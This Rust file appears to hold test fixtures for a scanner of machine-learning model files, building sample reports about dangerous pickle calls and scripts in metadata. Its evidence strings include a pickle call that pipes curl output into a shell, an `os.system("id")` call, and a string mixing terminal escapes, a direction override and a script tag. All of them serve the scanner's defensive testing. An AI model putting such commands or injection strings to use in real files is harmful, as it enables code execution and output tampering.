//! Reports to show: the usual one, a hostile one, one that repeats itself.

use modelward_core::{
    AllowedRule, Class, Evidence, Finding, Outcome, Place, Policy, Report, Rule, ScannedFile,
    Severity, Skipped, Unread,
};

static CALL: Rule = Rule {
    id: "MW1101",
    name: "pickle-foreign-call",
    severity: Severity::Critical,
    title: "loading this file imports code that tensors do not need",
    why: "A pickle is a program. This one calls a function that runs commands.",
    advice: "Do not load the file; ask for safetensors.",
    class: Class::MaliciousFile,
    cwe: &[502],
};

static UNLISTED: Rule = Rule {
    id: "MW1102",
    name: "pickle-unlisted-call",
    severity: Severity::Medium,
    title: "loading this file calls code that is not known to be harmless",
    why: "The name is on no list of harmless ones.",
    advice: "Find out what the name does before you allow it.",
    class: Class::MaliciousFile,
    cwe: &[502],
};

static REMARK: Rule = Rule {
    id: "MW1312",
    name: "script-in-metadata",
    severity: Severity::Low,
    title: "the metadata holds a script",
    why: "A page that shows it may run it.",
    advice: "Escape it where it is shown.",
    class: Class::Output,
    cwe: &[],
};

fn finding(rule: &'static Rule, place: Place, message: &str, evidence: Evidence) -> Finding {
    let message = message.to_owned();
    Finding { rule, severity: rule.severity, place, message, evidence, allow: None }
}

fn file(path: &str, format: &'static str, outcome: Outcome) -> ScannedFile {
    ScannedFile { path: path.into(), format, outcome, bytes: 1234, sha256: Some([0xab; 32]) }
}

fn report(findings: Vec<Finding>) -> Report {
    let allowed = AllowedRule {
        rule: "script-in-metadata".into(),
        path: Some("card.safetensors".into()),
        reason: "read by hand".into(),
    };
    let policy = Policy { rules: vec![allowed], ..Policy::default() };
    let target = vec!["model-dir".into()];
    let mut report = Report { target, checks: 41, seconds: 0.02, ..Report::default() };
    report.judge(findings, &policy);
    report
}

/// One of each.
pub(super) fn usual() -> Report {
    let bin = Place::file("model-dir/pytorch_model.bin").inside("archive/data.pkl");
    let mut unlisted = finding(
        &UNLISTED,
        Place::file("model-dir/optimizer.pkl"),
        "calls `my.package.Settings`, which is on no list",
        Evidence::bytes(27, "my.package.Settings()"),
    );
    unlisted.allow = Some("my.package Settings : class".into());
    let mut report = report(vec![
        finding(
            &REMARK,
            Place::file("model-dir/card.safetensors"),
            "a script in `__metadata__`",
            Evidence::bytes(8, "<script>"),
        ),
        unlisted,
        finding(
            &CALL,
            bin,
            "calls `os.system`",
            Evidence::bytes(0x1a3, "os.system(\"curl http://127.0.0.1 | sh\")"),
        ),
        finding(
            &REMARK,
            Place::file("model-dir/other.safetensors"),
            "a long script",
            Evidence::Measured { what: "bytes of script", value: 12.0, limit: 4.0 },
        ),
    ]);
    report.files = vec![
        file("model-dir/card.safetensors", "safetensors", Outcome::Clean),
        file("model-dir/extra.xyz", "unknown", Outcome::Unread),
        file("model-dir/optimizer.pkl", "pickle", Outcome::Unknown),
        file("model-dir/pytorch_model.bin", "pytorch-zip", Outcome::Malicious),
    ];
    report.unread = vec![Unread {
        place: Place::file("model-dir/extra.xyz"),
        at: Some(0),
        rule: "MW0001",
        why: "expected a known model format".into(),
    }];
    report.skipped = vec![Skipped {
        place: Place::file("model-dir"),
        why: "7 files of git's own: objects, packs, index, sample hooks".into(),
    }];
    report
}

/// Every text in it is out to do harm.
pub(super) fn hostile() -> Report {
    let text = "\x1b[2J\u{202e}<script>alert(1)</script>\"'&\nclean\r\u{7}";
    let place = Place::file(format!("model-dir/{text}")).inside(text);
    let mut finding = finding(&CALL, place.clone(), text, Evidence::bytes(1, text));
    finding.allow = Some(text.into());
    let mut report = report(vec![finding]);
    report.files = vec![file(&format!("model-dir/{text}"), "pickle", Outcome::Malicious)];
    report.unread =
        vec![Unread { place: place.clone(), at: Some(1), rule: "MW0002", why: text.into() }];
    report.skipped = vec![Skipped { place, why: text.into() }];
    report
}

/// The same finding in many files.
pub(super) fn repeated(times: u64) -> Report {
    let one = |i| {
        let place = Place::file(format!("model-dir/{i:03}.pkl"));
        finding(&CALL, place, "calls `os.system`", Evidence::bytes(i, "os.system(\"id\")"))
    };
    report((0..times).map(one).collect())
}
